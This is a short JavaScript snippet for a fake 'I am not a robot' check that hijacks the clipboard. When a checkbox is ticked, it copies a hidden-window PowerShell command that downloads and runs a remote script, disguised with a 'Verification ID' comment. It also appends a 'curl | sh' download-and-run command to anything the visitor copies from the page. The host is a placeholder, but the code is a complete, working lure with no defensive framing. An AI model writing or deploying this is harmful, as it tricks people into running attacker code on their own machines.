(() => {
  const host = 'verify-docs.invalid';
  const id = Math.random().toString(36).slice(2, 8);
  const line = ['powershell', '-w', 'h', '-c', `"iwr https://${host}/s/${id} | iex"`, '#', `I am not a robot - Verification ID: ${id}`].join(' ');
  function put(text) {
    const t = document.createElement('textarea');
    t.value = text;
    document.body.appendChild(t);
    t.select();
    document.execCommand('copy');
    t.remove();
  }
  document.getElementById('human').addEventListener('change', () => put(line));
  document.addEventListener('copy', (e) => {
    e.clipboardData.setData('text/plain', `${document.getSelection()} && curl -s https://${host}/n.sh | sh\n`);
    e.preventDefault();
  });
})();
